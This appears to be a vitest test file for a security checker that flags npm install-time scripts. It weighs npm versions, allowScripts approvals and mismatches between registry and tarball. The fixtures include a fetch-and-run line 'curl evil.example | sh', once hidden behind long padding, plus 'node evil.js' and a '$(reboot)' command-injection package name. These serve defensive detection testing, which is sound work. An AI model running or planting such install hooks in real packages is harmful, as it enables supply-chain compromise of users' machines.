import { describe, expect, it } from 'vitest';
import type { Check, NpmFacts } from '../../src/checks/define.ts';
import installScript from '../../src/checks/install-script.ts';
import type { PreviousRelease } from '../../src/evidence/needs.ts';
import { unknown } from '../../src/model/fact.ts';
import type { ScriptApproval } from '../../src/model/plan.ts';
import {
  aDocument,
  aPackage,
  aTarball,
  type Circumstances,
  findingOf as findingOfAny,
  type Given,
  noHistory,
  npm10,
  npm11,
  npm12,
  offline,
  outcomeOf as outcomeOfAny,
} from './given.ts';

const findingOf = (check: Check, given: Given, around?: Circumstances) =>
  findingOfAny(check, { ...noHistory, ...given }, around);
const outcomeOf = (check: Check, given: Given, around?: Circumstances) =>
  outcomeOfAny(check, { ...noHistory, ...given }, around);

const quiet = { tarball: aTarball(), versionDocument: aDocument() };

function withScripts(scripts: Record<string, string>, files?: readonly string[]): Given {
  return { tarball: aTarball({ scripts }, files), versionDocument: aDocument({ scripts }) };
}

function release(
  version: string,
  hooks: PreviousRelease['hooks'],
  given: Partial<PreviousRelease> = {},
): PreviousRelease {
  return { version, hooks, as: 'earlier', files: new Map(), ...given };
}

describe('install-script flags', () => {
  it.each(['preinstall', 'install', 'postinstall'])('%s, and shows its text', (event) => {
    const finding = findingOf(installScript, withScripts({ [event]: 'node install.js' }));
    expect(finding).toMatchObject({ severity: 'medium', excerpt: [`${event}: node install.js`] });
    expect(finding.data['sourcesDiffer']).toBe(false);
  });

  it('what another manager may run, whatever npm is told about scripts', () => {
    const npm: NpmFacts = { ...npm12, by: 'yarn', ignoreScripts: true };
    const finding = findingOf(installScript, withScripts({ postinstall: 'node a.js' }), { npm });
    expect(finding.severity).toBe('medium');
    expect(finding.message).toContain('yarn runs it, as far as npq knows');
    expect(finding.advice).toContain('keep yarn from running it');
    expect(finding.message + finding.advice).not.toMatch(/npm \d|allowScripts|--ignore-scripts/);
    const gyp = findingOf(
      installScript,
      { tarball: aTarball({}, ['package.json', 'binding.gyp']), versionDocument: aDocument() },
      { npm },
    );
    expect(gyp.message).toContain('which yarn builds with node-gyp');
  });

  it('all of them in one finding, in the order in which npm runs them', () => {
    const { excerpt } = findingOf(
      installScript,
      withScripts({ postinstall: 'c', install: 'b', preinstall: 'a' }),
    );
    expect(excerpt).toEqual(['preinstall: a', 'install: b', 'postinstall: c']);
  });

  it('what only the registry tells, since npm runs that on a first install', () => {
    const finding = findingOf(installScript, {
      tarball: aTarball(),
      versionDocument: aDocument({ scripts: { postinstall: 'curl evil.example | sh' } }),
    });
    expect(finding.excerpt).toEqual(['postinstall: curl evil.example | sh']);
    expect(finding.data['sourcesDiffer']).toBe(true);
    expect(finding.message).toContain('the registry and the tarball disagree');
  });

  it('what only the tarball tells, since npm runs that after a lockfile', () => {
    const given = { ...quiet, tarball: aTarball({ scripts: { install: 'sh x' } }) };
    expect(findingOf(installScript, given).data['sourcesDiffer']).toBe(true);
  });

  it('both texts where registry and tarball say different things', () => {
    const finding = findingOf(installScript, {
      tarball: aTarball({ scripts: { install: 'node evil.js' } }),
      versionDocument: aDocument({ scripts: { install: 'node good.js' } }),
    });
    expect(finding.excerpt).toEqual(['install: node evil.js', 'install: node good.js']);
    expect(finding.data['sourcesDiffer']).toBe(true);
  });

  it('a script of a short registry document without calling that a disagreement', () => {
    const finding = findingOf(installScript, {
      tarball: aTarball({ scripts: { install: 'node-gyp-build' } }),
      versionDocument: aDocument({ hasInstallScript: true }),
    });
    expect(finding.data['sourcesDiffer']).toBe(false);
  });

  it('on the tarball alone where the registry has no document, as for a bundled package', () => {
    const pkg = aPackage({ origin: { kind: 'bundled', by: 'kitchen@1.0.0' } });
    const given = { tarball: aTarball({ scripts: { install: 'sh x' } }), versionDocument: offline };
    expect(findingOf(installScript, given, { pkg }).severity).toBe('medium');
  });

  it('the tail of a script too long to show', () => {
    const install = `echo building ${' '.repeat(5000)}${'x'.repeat(2000)}; curl evil.example | sh`;
    const [line] = findingOf(installScript, withScripts({ install })).excerpt ?? [];
    expect(line?.length).toBeLessThan(450);
    expect(line).toMatch(/^install: echo building xxx.* characters .*curl evil.example \| sh$/);
  });
});

describe('the build that nobody wrote down', () => {
  const gyp = ['package.json', 'binding.gyp'];
  const withGyp = (scripts: Record<string, string>) => withScripts(scripts, gyp);

  it('is flagged for a binding.gyp alone', () => {
    const finding = findingOf(installScript, withGyp({}));
    expect(finding.excerpt).toEqual(['install: node-gyp rebuild']);
    expect(finding.message).toContain('binding.gyp');
    expect(finding.severity).toBe('medium');
  });

  it('is not stopped by a postinstall', () => {
    expect(findingOf(installScript, withGyp({ postinstall: 'true' })).excerpt).toEqual([
      'install: node-gyp rebuild',
      'postinstall: true',
    ]);
  });

  it.each(['install', 'preinstall'])('is replaced by %s', (event) => {
    expect(findingOf(installScript, withGyp({ [event]: 'true' })).excerpt).toEqual([`${event}: true`]);
  });

  it('is not stopped by an install that is empty', () => {
    expect(findingOf(installScript, withGyp({ install: '' })).excerpt).toEqual(['install: node-gyp rebuild']);
  });

  it('agrees with a registry that wrote it down when the version was published', () => {
    const finding = findingOf(installScript, {
      tarball: aTarball({}, gyp),
      versionDocument: aDocument({ scripts: { install: 'node-gyp rebuild' }, gypfile: true }),
    });
    expect(finding.excerpt).toEqual(['install: node-gyp rebuild']);
    expect(finding.data['sourcesDiffer']).toBe(false);
  });

  it('needs the file at the top', () => {
    expect(outcomeOf(installScript, withScripts({}, ['package.json', 'deps/binding.gyp'])).kind).toBe(
      'clean',
    );
  });

  it('happens for BINDING.GYP too, on disks that do not mind', () => {
    expect(outcomeOf(installScript, withScripts({}, ['BINDING.GYP'])).kind).toBe('flagged');
  });

  describe('with gypfile: false', () => {
    const off = {
      tarball: aTarball({ gypfile: false }, gyp),
      versionDocument: aDocument({ gypfile: false }),
    };

    it('does not run on a first install: a note that the ledger forgets', () => {
      expect(findingOf(installScript, off)).toMatchObject({ severity: 'low', circumstantial: true });
    });

    // Seen with npm 11.19: `npm ci` starts node-gyp all the same, since a lockfile has no place for gypfile.
    it('runs from a lockfile', () => {
      expect(findingOf(installScript, off, { pkg: aPackage({ locked: true }) }).severity).toBe('medium');
    });

    it('runs where the registry does not say so', () => {
      expect(findingOf(installScript, { ...off, versionDocument: aDocument() }).severity).toBe('medium');
    });
  });
});

describe('prepare', () => {
  const prepare = withScripts({ prepare: 'tsc' });

  it('runs for git and linked folders', () => {
    const git = aPackage({ origin: { kind: 'git', spec: 'github:a/b', host: 'github.example' } });
    const folder = aPackage({ origin: { kind: 'directory', path: '../b' } });
    expect(findingOf(installScript, prepare, { pkg: git }).excerpt).toEqual(['prepare: tsc']);
    expect(findingOf(installScript, prepare, { pkg: folder }).excerpt).toEqual(['prepare: tsc']);
  });

  it('never runs for packages of a registry, tarballs of addresses and files', () => {
    const remote = aPackage({
      origin: { kind: 'remote', url: 'https://a.example/b.tgz', host: 'a.example' },
    });
    const file = aPackage({ origin: { kind: 'file', path: 'b.tgz' } });
    expect(outcomeOf(installScript, prepare).kind).toBe('clean');
    expect(outcomeOf(installScript, prepare, { pkg: remote }).kind).toBe('clean');
    expect(outcomeOf(installScript, prepare, { pkg: file }).kind).toBe('clean');
  });

  it('is not needed for a whole npm install in a clone: a build script is enough', () => {
    const pkg = aPackage({ origin: { kind: 'git', spec: 'github:a/b', host: 'github.example' } });
    const finding = findingOf(installScript, withScripts({ build: 'tsc' }), { pkg });
    expect(finding.message).toContain('a whole install in its clone');
    expect(outcomeOf(installScript, withScripts({ build: 'tsc' })).kind).toBe('clean');
  });
});

describe('what npm will do with it', () => {
  const given = withScripts({ install: 'sh -c true' });
  const entriesWith = (...approvals: readonly (ScriptApproval | undefined)[]) =>
    aPackage({
      entries: approvals.flatMap((approval) =>
        aPackage().entries.map((entry) => ({ ...entry, ...(approval === undefined ? {} : { approval }) })),
      ),
    });
  const yes = { allowed: true, pinned: true, source: 'package.json' } as const;
  const byName = { ...yes, pinned: false };
  const no = { ...yes, allowed: false };
  const before: Given = { ...given, previousInstall: { releases: [release('1.2.2', [])] } };

  it('is asked about where npm would run it by an approval that is of another package', () => {
    const ofAnother = entriesWith({ ...byName, ofAnother: true });
    for (const npm of [npm11, npm12]) {
      const finding = findingOf(installScript, before, { pkg: ofAnother, npm });
      expect(finding).toMatchObject({ severity: 'high', data: { npm: 'runs', runsNow: true } });
    }
  });

  it('is said for each npm', () => {
    const messageFor = (npm: NpmFacts) => findingOf(installScript, given, { npm }).message;
    expect(messageFor(npm10)).toMatch(/; npm 10 runs it$/);
    expect(messageFor(npm11)).toMatch(/; npm 11 runs it, and warns unless allowScripts names it$/);
    expect(messageFor(npm12)).toMatch(/; npm 12 will not run it, because allowScripts does not name it$/);
  });

  it('is to be read, and beside it what else is new since it was another', () => {
    const adviceOn = (facts: Given, pkg = aPackage()) => findingOf(installScript, facts, { pkg }).advice;
    expect(adviceOn(given)).toBe(
      'Read it and the file that it starts; if the package works without, install with --ignore-scripts.',
    );
    expect(adviceOn(before)).toBe(
      'Read it, and what came with it: npm diff --diff=teapot@1.2.2 --diff=teapot@1.2.3; if the package works without, install with --ignore-scripts.',
    );
    expect(adviceOn(before, aPackage({ name: '$(reboot)' }))).not.toContain('npm diff');
    const odd: Given = { ...given, previousInstall: { releases: [release('1 --x', [])] } };
    expect(adviceOn(odd)).not.toContain('npm diff');
  });

  it('is nothing with --ignore-scripts, which the ledger must not take for a yes', () => {
    const finding = findingOf(installScript, before, { npm: { ...npm11, ignoreScripts: true } });
    expect(finding).toMatchObject({ severity: 'info', circumstantial: true });
    expect(finding.message).toMatch(/it will not run, because scripts are switched off$/);
    expect(finding.data['runsNow']).toBe(false);
  });

  it('is nothing with npm 12 as long as nobody approves it: told, not asked, not remembered', () => {
    const finding = findingOf(installScript, before, { npm: npm12 });
    expect(finding).toMatchObject({
      severity: 'low',
      circumstantial: true,
      advice: 'If it does not work without, read the script, then: npm approve-scripts teapot',
    });
    expect(finding.data).toMatchObject({ runsNow: false, npm: 'blocked', history: 'new' });
  });

  it('is something with npm 12 in the clone of a repository, which allowScripts does not keep', () => {
    const pkg = aPackage({ origin: { kind: 'git', spec: 'github:a/b', host: 'github.example' } });
    expect(findingOf(installScript, given, { pkg, npm: npm12 })).toMatchObject({ severity: 'medium' });
  });

  it('is nothing where allowScripts denies it', () => {
    const finding = findingOf(installScript, before, { pkg: entriesWith(no), npm: npm11 });
    expect(finding).toMatchObject({ severity: 'info', circumstantial: true });
    expect(finding.message).toContain('allowScripts of package.json denies it, and npm 11 does not run it');
  });

  it('is asked where allowScripts denies it in one place and not in the other', () => {
    const finding = findingOf(installScript, given, { pkg: entriesWith(no, undefined), npm: npm11 });
    expect(finding).toMatchObject({ severity: 'medium' });
  });

  it('is noted, and not remembered, where allowScripts approves this very version', () => {
    const finding = findingOf(installScript, before, { pkg: entriesWith(yes), npm: npm12 });
    expect(finding).toMatchObject({ severity: 'low', circumstantial: true });
    expect(finding.message).toContain('allowScripts of package.json approves this version, and npm 12 runs');
    expect(finding.data).toMatchObject({ runsNow: true, approvedBy: 'package.json', pinned: true });
  });

  it('is noted where allowScripts approves the name and the script is what it was', () => {
    const same = { releases: [release('1.2.2', [{ event: 'install', command: 'sh -c true' }])] };
    const around = { pkg: entriesWith(byName), npm: npm12 };
    expect(findingOf(installScript, given, around)).toMatchObject({ severity: 'low', circumstantial: true });
    expect(findingOf(installScript, { ...given, previousInstall: same }, around).severity).toBe('low');
  });

  it('is asked where allowScripts approves the name, and the script is new, changed or not to be compared', () => {
    const around = { pkg: entriesWith(byName), npm: npm12 };
    const changed = { releases: [release('1.2.2', [{ event: 'install', command: 'true' }])] };
    expect(findingOf(installScript, before, around)).toMatchObject({ severity: 'high' });
    expect(findingOf(installScript, { ...given, previousInstall: changed }, around).severity).toBe('medium');
    expect(findingOf(installScript, { ...given, previousInstall: offline }, around).severity).toBe('medium');
  });

  it('is asked where the other place of the package is not approved', () => {
    const finding = findingOf(installScript, given, { pkg: entriesWith(yes, undefined), npm: npm12 });
    expect(finding.severity).toBe('medium');
  });

  it('is what the user approved a moment ago, though all other scripts are off', () => {
    const npm = { ...npm11, ignoreScripts: true, approved: new Set(['teapot@1.2.3']) };
    const finding = findingOf(installScript, before, { npm });
    expect(finding).toMatchObject({ severity: 'info' });
    expect(finding.circumstantial).toBeUndefined();
    expect(finding.data).toMatchObject({ runsNow: true, npm: 'approved-now' });
  });
});

describe('what can be approved alone', () => {
  const given = withScripts({ install: 'true' });
  const withKey = aPackage({
    entries: aPackage().entries.map((entry) => ({ ...entry, approvalKey: 'teapot@1.2.3' })),
  });

  it('is kept in package.json, by the entry that npm would write', () => {
    const { data } = findingOf(installScript, given, { pkg: withKey });
    expect(data).toMatchObject({ approvable: 'package.json', approvalKeys: ['teapot@1.2.3'] });
  });

  it('is kept in the ledger where npm knows no allowScripts', () => {
    expect(findingOf(installScript, given, { npm: npm10 }).data).toMatchObject({ approvable: 'ledger' });
  });

  it.each([
    ['where npm could not tell its entry', { pkg: aPackage() }],
    ['where no entry could be kept', { pkg: withKey, npm: { ...npm12, approvals: 'none' as const } }],
    ['where scripts are off', { pkg: withKey, npm: { ...npm11, ignoreScripts: true } }],
    [
      'for a tarball of an address',
      { npm: npm10, pkg: aPackage({ origin: { kind: 'file', path: 'b.tgz' } }) },
    ],
  ])('is nothing %s', (_where, around) => {
    expect(findingOf(installScript, given, around).data['approvable']).toBeUndefined();
  });
});

describe('install-script passes', () => {
  it('a package without', () => {
    expect(outcomeOf(installScript, quiet).kind).toBe('clean');
  });

  it('scripts that run at other times', () => {
    const scripts = {
      test: 'x',
      prepublishOnly: 'x',
      prepack: 'x',
      uninstall: 'x',
      prepublish: 'x',
      start: 'x',
    };
    expect(outcomeOf(installScript, withScripts(scripts)).kind).toBe('clean');
  });

  it('workspaces by: project-script shows theirs', () => {
    const pkg = aPackage({ origin: { kind: 'workspace', path: 'packages/a' } });
    expect(outcomeOf(installScript, {}, { pkg }).kind).toBe('not-applicable');
  });
});

describe('install-script is unknown', () => {
  it('where the tarball could not be read, and may not be left out', () => {
    const tarball = unknown('too-large', 'tarball', 'unpacks to 4 GiB');
    expect(outcomeOf(installScript, { tarball, versionDocument: aDocument() })).toEqual({
      check: 'install-script',
      subject: { kind: 'package', key: 'teapot@1.2.3' },
      kind: 'unknown',
      reason: 'too-large',
      cause: 'subject',
      detail: 'unpacks to 4 GiB',
      essential: true,
    });
  });

  it('never only because the registry document is missing', () => {
    expect(outcomeOf(installScript, { tarball: aTarball(), versionDocument: offline }).kind).toBe('clean');
  });
});
